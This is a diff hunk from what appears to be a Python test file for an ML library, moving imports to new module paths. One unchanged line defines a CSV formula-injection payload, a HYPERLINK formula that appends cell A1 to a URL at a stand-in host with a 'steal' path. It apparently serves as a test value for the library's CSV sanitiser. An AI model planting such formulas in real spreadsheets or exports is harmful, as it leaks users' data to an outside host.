@@ -9,9 +9,9 @@ import numpy as np
 import pandas as pd
 from model_helpers import train
 
-from mlcore.explain import ExplainSettings, explain_run
-from mlcore.loading import load_bytes
-from mlcore.predict import FORMULA_START, safe_csv_bytes
+from mlcore.data.loading import load_bytes
+from mlcore.deploy.predict import FORMULA_START, safe_csv_bytes
+from mlcore.explain.explainer import ExplainSettings, explain_run
 
 LINK = '=HYPERLINK("http://example.org/steal?"&A1,"click")'
 
